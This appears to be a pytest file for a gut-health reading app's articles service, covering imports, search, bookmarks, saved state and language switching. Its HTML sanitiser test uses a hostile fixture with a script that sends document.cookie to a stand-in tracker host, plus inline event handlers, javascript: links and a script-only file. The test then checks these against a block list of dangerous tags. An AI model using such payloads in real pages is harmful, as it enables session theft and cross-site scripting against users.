"""The articles service: a lazy library, safe imports, removal rules, state that persists."""

from __future__ import annotations

from pathlib import Path

import pytest

from gutsleep.articles import ArticleError, article_html
from gutsleep.articles.render import plain_text
from gutsleep.services.context import open_services

HOSTILE_HTML = """<!doctype html>
<html><head><title>Gut diary tips</title>
<script>fetch('https://tracker.example/steal?c=' + document.cookie)</script>
<link rel="stylesheet" href="https://cdn.example/style.css">
<style>body { background: url(https://cdn.example/bg.png) }</style>
</head>
<body onload="alert('hi')">
<h1 id="top">Gut diary tips</h1>
<p onclick="evil()">Write down <b>bloating</b> every evening.</p>
<img src="https://tracker.example/pixel.gif" alt="pixel">
<iframe src="https://ads.example/frame"></iframe>
<h2>Keep going</h2>
<p><a href="javascript:alert(1)">click me</a> and
<a href="https://example.org/more">read more</a></p>
<object data="https://example.org/x.swf"></object>
</body></html>
"""


@pytest.fixture
def write(tmp_path: Path):
    def write(name: str, content: str | bytes) -> Path:
        path = tmp_path / "imports" / name
        path.parent.mkdir(exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return path

    return write


def test_bundled_articles_are_read_on_first_use_not_at_opening(services) -> None:
    assert services.articles.loaded is False
    library = services.articles.library()
    assert services.articles.loaded is True
    assert [a.id for a in library][:2] == ["evidence-tiers", "gut-brain-axis"]
    assert all(a.bundled for a in library)
    assert services.articles.article("signs").title.startswith("Signs")
    assert services.articles.article("nope") is None
    assert services.articles.is_bundled("signs")


def test_search_finds_bundled_and_imported_articles(services, write) -> None:
    assert services.articles.search("vagus")[0].article_id == "gut-brain-axis"
    assert services.articles.search("kohlrabi") == []
    article = services.articles.import_file(
        write("kohlrabi.md", "# Kohlrabi\n\nA crunchy vegetable.")
    )
    hits = services.articles.search("kohlrabi")  # the index was rebuilt after the import
    assert [h.article_id for h in hits] == [article.id]
    services.articles.remove_user_article(article.id)
    assert services.articles.search("kohlrabi") == []


def test_markdown_and_text_imports_are_stored_as_imported(services, write) -> None:
    markdown = "---\ntitle: My plan\n---\n\n## Week one {#one}\n\nMore *fibre*.\n"
    article = services.articles.import_file(write("plan.md", markdown))
    assert (article.id, article.title, article.bundled) == ("user-plan", "My plan", False)
    assert article.anchors == {"one"}
    stored = services.articles.repository.user_article("user-plan")
    assert stored.content == markdown and stored.source_format == "markdown"
    assert stored.source_name == "plan.md"

    text = services.articles.import_file(write("night_log.txt", "Woke at 3.\n\nHot again."))
    assert text.title == "Night log" and text.source_format == "text"
    assert services.articles.repository.user_article(text.id).content == "Woke at 3.\n\nHot again."

    again = services.articles.import_file(write("plan.md", markdown))
    assert again.id == "user-plan-2"  # a second copy never replaces the first
    assert [a.id for a in services.articles.user_articles()] == [
        "user-plan",
        "user-night-log",
        "user-plan-2",
    ]


def test_html_import_is_stored_sanitised(services, write) -> None:
    article = services.articles.import_file(write("tips.html", HOSTILE_HTML))
    stored = services.articles.repository.user_article(article.id)
    assert stored.source_format == "html"
    for content in (stored.content, article_html(article)):
        lowered = content.lower()
        for bad in (
            "<script",
            "<iframe",
            "<img",
            "<link",
            "<style",
            "<object",
            "onload",
            "onclick",
            "javascript:",
            "tracker.example",
            "cdn.example",
            "ads.example",
        ):
            assert bad not in lowered, bad
    assert article.title == "Gut diary tips"
    assert "bloating" in plain_text(article)
    assert 'href="https://example.org/more"' in stored.content
    assert [s.anchor for s in article.sections] == ["top", "keep-going"]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("photo.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "can't be read as text"),
        ("latin.txt", "caf\xe9".encode("latin-1"), "can't be read as text"),
        ("paper.pdf", b"%PDF-1.7", "isn't a supported article"),
        ("empty.md", "   \n", "is empty"),
        ("only-script.html", "<script>alert(1)</script>", "no readable text"),
    ],
)
def test_unusable_files_are_refused_with_a_sentence(
    services, write, name: str, content: bytes | str, message: str
) -> None:
    with pytest.raises(ArticleError, match=message) as caught:
        services.articles.import_file(write(name, content))
    assert name in str(caught.value)
    assert str(caught.value).endswith(".")
    assert services.articles.user_articles() == []


def test_a_missing_file_is_refused(services, tmp_path: Path) -> None:
    with pytest.raises(ArticleError, match="couldn't be opened"):
        services.articles.import_file(tmp_path / "gone.md")


def test_only_imported_articles_can_be_removed(services, write) -> None:
    article = services.articles.import_file(write("mine.md", "# Mine\n\nText."))
    services.articles.add_bookmark(article.id, note="gone with it")
    with pytest.raises(ArticleError, match="can't be removed"):
        services.articles.remove_user_article("signs")
    assert services.articles.article("signs") is not None
    services.articles.remove_user_article(article.id)
    assert services.articles.article(article.id) is None
    assert services.articles.bookmarks() == []
    with pytest.raises(ArticleError, match="no imported article"):
        services.articles.remove_user_article(article.id)


def test_bookmarks_check_their_section(services) -> None:
    mark = services.articles.add_bookmark("signs", "antibiotics", quote="  Antibiotics   are\n")
    assert mark.section_title == "A history of extensive antibiotic use"
    assert mark.quote == "Antibiotics are"
    top = services.articles.add_bookmark("signs")
    assert top.anchor == "" and top.section_title.startswith("Signs")
    with pytest.raises(ArticleError, match="no section"):
        services.articles.add_bookmark("signs", "nowhere")
    with pytest.raises(ArticleError, match="no article"):
        services.articles.add_bookmark("nope")
    long = services.articles.add_bookmark("signs", "autoimmune", quote="word " * 500)
    assert len(long.quote) <= 1000 and long.quote.endswith("…")


def test_state_bookmarks_and_imports_survive_reopening(data_dir: Path, write) -> None:
    services = open_services(data_dir, zone="Europe/London")
    services.articles.mark_opened("signs")
    services.articles.save_position("signs", 2048)
    services.articles.set_read("evidence", True)
    mark = services.articles.add_bookmark("signs", "antibiotics", note="ask GP")
    services.articles.edit_note(mark.id, "  ask the GP in May  ")
    services.articles.add_bookmark("evidence", "association", note="delete me")
    imported = services.articles.import_file(write("tips.html", HOSTILE_HTML))
    services.close()

    services = open_services(data_dir, zone="Europe/London")
    try:
        state = services.articles.state("signs")
        assert state.read and state.position == 2048 and state.last_opened is not None
        assert services.articles.states()["evidence"].read
        assert not services.articles.state("foundations").read
        marks = services.articles.bookmarks()
        assert [(b.article_id, b.note) for b in marks] == [
            ("evidence", "delete me"),
            ("signs", "ask the GP in May"),
        ]
        assert services.articles.delete_bookmark(marks[0].id)
        assert [b.note for b in services.articles.bookmarks("signs")] == ["ask the GP in May"]
        reopened = services.articles.article(imported.id)
        assert reopened is not None and not reopened.bundled
        assert reopened.title == "Gut diary tips"  # the <title> was gone from the stored copy
        assert reopened.anchors == imported.anchors
        assert services.articles.library()[-1].id == imported.id
    finally:
        services.close()


def test_storing_and_removing_imports_parses_nothing_more(services, write, monkeypatch) -> None:
    """The page parses an import on its worker; storing it on the GUI thread must not
    parse the library again (each stored article may be up to the limits in size)."""
    from gutsleep.articles import loader
    from gutsleep.services.articles import prepare_import

    services.articles.import_file(write("first.md", "# First\n\nText."))
    services.articles.library()
    prepared = prepare_import(write("second.md", "# Second\n\nMore."))
    calls: list[object] = []
    real = loader.user_article_from_text
    monkeypatch.setattr(
        loader, "user_article_from_text", lambda *a, **k: calls.append(a) or real(*a, **k)
    )
    article = services.articles.store_import(prepared)
    assert article.id == "user-second"
    assert [a.id for a in services.articles.user_articles()] == ["user-first", "user-second"]
    assert services.articles.search("more")[0].article_id == "user-second"
    services.articles.remove_user_article("user-first")
    assert [a.id for a in services.articles.user_articles()] == ["user-second"]
    assert calls == []


def test_a_language_switch_keeps_reading_state_bookmarks_and_search(services, write) -> None:
    """Ids and anchors are the same in every language, so nothing is lost by switching."""
    articles = services.articles
    assert articles.language == "en"
    articles.mark_opened("signs")
    articles.save_position("signs", 512)
    mark = articles.add_bookmark("signs", "antibiotics", note="ask GP")
    top = articles.add_bookmark("evidence")
    imported = articles.import_file(write("tips.md", "# My tips\n\n## Tea {#tea}\n\nChamomile."))
    assert articles.search("Darm-Hirn-Achse") == []

    articles.use_language("de")
    assert articles.language == "de"
    signs = articles.article("signs")
    assert signs is not None and signs.title.startswith("Anzeichen")
    assert signs.section("antibiotics") is not None
    state = articles.state("signs")
    assert state.read and state.position == 512
    marks = {b.id: b for b in articles.bookmarks()}
    assert marks[mark.id].anchor == "antibiotics" and marks[mark.id].note == "ask GP"
    assert marks[mark.id].section_title == signs.section("antibiotics").title  # type: ignore[union-attr]
    assert marks[top.id].section_title == "Was Forschung zeigt und was nicht"
    assert articles.search("Vagusnerv")[0].article_id == "gut-brain-axis"
    assert articles.article(imported.id) is not None  # imports are never translated
    german_mark = articles.add_bookmark("foundations", "probiotics")
    assert german_mark.section_title == "Probiotika und andere Nahrungsergänzungsmittel"

    articles.use_language("en")
    assert articles.article("signs").title.startswith("Signs")  # type: ignore[union-attr]
    marks = {b.id: b for b in articles.bookmarks()}
    assert marks[mark.id].section_title == "A history of extensive antibiotic use"
    assert marks[german_mark.id].section_title == "Probiotics and other supplements"
    assert articles.search("vagus")[0].article_id == "gut-brain-axis"
